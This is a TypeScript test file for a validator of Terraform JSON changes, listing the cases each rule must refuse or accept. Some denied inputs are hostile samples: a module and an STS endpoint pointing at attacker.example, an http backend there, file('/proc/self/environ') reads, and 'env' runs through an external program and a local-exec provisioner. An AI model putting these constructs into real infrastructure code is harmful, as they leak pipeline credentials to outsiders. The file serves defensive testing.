import type { Case } from './case';
import { expressionCases } from './expression-cases';
import { type Change, put } from './put';
import { resourceCases } from './resource-cases';

const prod = 'services-pay-prod';
const boundary = 'aws_organizations_organizational_unit';
const block = (name: string, value: unknown, allow?: Change[]): Case => ({
  rule: 'known-blocks',
  name: `a ${name} block`,
  deny: [put([name], value)],
  ...(allow && { allow }),
  says: `got "${name}"`,
});
const foundation = (name: string, path: (string | number)[], value: unknown, says: string, stack = prod): Case => ({
  rule: 'same-foundations',
  name,
  stack,
  deny: [put(path, value)],
  says,
});
const removal = { from: 'aws_iam_role.gone', lifecycle: { destroy: false } };
const role = 'aws_iam_role.pay_task';

/** For every rule what it refuses, with what it takes; `file()` in an output prints the credentials of the job. */
export const cases: readonly Case[] = [
  ...expressionCases,
  ...resourceCases,
  block('data', { external: { x: { program: ['sh', '-c', 'env'] } } }, [put(['locals'], undefined)]),
  block('module', { x: { source: 'git::https://attacker.example/x' } }),
  block('ephemeral', { aws_secretsmanager_secret_version: { x: { secret_id: 'database' } } }),
  block('check', { x: { data: { http: { x: { url: 'https://attacker.example' } } } } }),
  block('variables', {}),
  block('action', {}),
  foundation('another role', ['provider', 'aws', 0, 'assume_role', 0, 'role_arn'], 'arn:aws:iam::1:role/x', 'role_arn'),
  foundation('a second provider', ['provider', 'aws', 1], { alias: 'x', profile: 'admin' }, 'provider.aws'),
  foundation('another provider', ['provider', 'http'], {}, 'provider.http'),
  foundation('an endpoint', ['provider', 'aws', 0, 'endpoints'], [{ sts: 'https://attacker.example' }], 'endpoints'),
  foundation('no provider, which Terraform would guess', ['provider'], undefined, 'got "nothing"'),
  foundation('another backend', ['terraform', 'backend'], { http: { address: 'https://attacker.example' } }, 'backend'),
  foundation('the state of another stack', ['terraform', 'backend', 's3', 'key'], 'state/x.tfstate', 'backend.s3.key'),
  foundation('a provider of other origin', ['terraform', 'required_providers', 'aws', 'source'], 'a/aws', '"a/aws"'),
  foundation('an older provider', ['terraform', 'required_providers', 'aws', 'version'], '5.0.0', '"5.0.0"'),
  foundation('a new variable', ['variable', 'token'], { default: 'x' }, 'variable.token'),
  foundation('a default', ['variable', 'identity', 'default'], 'arn:aws:iam::1:role/x', 'variable.identity.default'),
  foundation('new locals', ['locals'], { x: '${file("/proc/self/environ")}' }, 'stack services-pay-prod locals'),
  {
    rule: 'same-foundations',
    name: 'other locals',
    both: [put(['locals'], { a: 1 })],
    deny: [put(['locals', 'a'], '${file("/proc/self/environ")}')],
    allow: [],
    says: 'organization locals.a: must be what main makes',
  },
  {
    rule: 'literal-imports',
    name: 'an id by expression',
    stack: prod,
    deny: [put(['import'], [{ to: role, id: '${file("/proc/self/environ")}' }])],
    allow: [put(['import'], [{ to: role, id: 'pay_task' }])],
    says: 'an id that is written out',
  },
  {
    rule: 'literal-imports',
    name: 'one for each of a list',
    stack: prod,
    deny: [put(['import'], [{ to: role, id: 'x', for_each: '${toset([])}' }])],
    allow: [put(['import'], { to: `\${${role}}`, id: 'pay_task' })],
    says: 'for_each',
  },
  {
    rule: 'literal-imports',
    name: 'one by another provider',
    stack: prod,
    deny: [put(['import'], [{ to: role, id: 'x', provider: 'aws.other' }])],
    says: 'aws.other',
  },
  {
    rule: 'literal-imports',
    name: 'one of nothing in the stack',
    stack: prod,
    deny: [put(['import'], [{ to: 'aws_iam_role.gone', id: 'x' }])],
    says: 'aws_iam_role.gone',
  },
  ...[null, 'x', [[]]].map(
    (value): Case => ({
      rule: 'literal-imports',
      name: `${JSON.stringify(value)}`,
      deny: [put(['import'], value)],
      says: 'import: must have only',
    }),
  ),
  {
    rule: 'plain-moves',
    name: 'a move to another type',
    deny: [put(['moved'], [{ from: 'external.x', to: `${boundary}.x` }])],
    allow: [put(['moved'], [{ from: `${boundary}.old`, to: `${boundary}.new` }])],
    says: 'two resources of one type',
  },
  {
    rule: 'plain-moves',
    name: 'a move into a module',
    deny: [put(['moved'], { from: `${boundary}.old`, to: `module.x.${boundary}.new` })],
    says: 'module.x',
  },
  {
    rule: 'plain-moves',
    name: 'a move with more',
    deny: [put(['moved'], [{ from: `${boundary}.old`, to: `${boundary}.new`, provider: 'aws.x' }])],
    says: 'aws.x',
  },
  {
    rule: 'plain-removals',
    name: 'a provisioner',
    stack: prod,
    deny: [put(['removed'], [{ ...removal, provisioner: [{ 'local-exec': { command: 'env', when: 'destroy' } }] }])],
    allow: [put(['removed'], [removal])],
    says: 'local-exec',
  },
  {
    rule: 'plain-removals',
    name: 'a lifecycle that does more',
    stack: prod,
    deny: [put(['removed'], { ...removal, lifecycle: { destroy: '${fileexists("/x")}' } })],
    allow: [put(['removed'], { ...removal, lifecycle: { destroy: true } })],
    says: 'fileexists',
  },
  {
    rule: 'plain-removals',
    name: 'a type that main does not make',
    stack: prod,
    deny: [put(['removed'], [{ ...removal, from: 'external.x' }])],
    says: 'external.x',
  },
  {
    rule: 'comments-are-text',
    name: 'something else than text',
    deny: [put(['//', 'metadata', 'version'], 1)],
    allow: [put(['//', 'metadata', 'version'], '0.22.0')],
    says: 'must hold only text',
  },
];
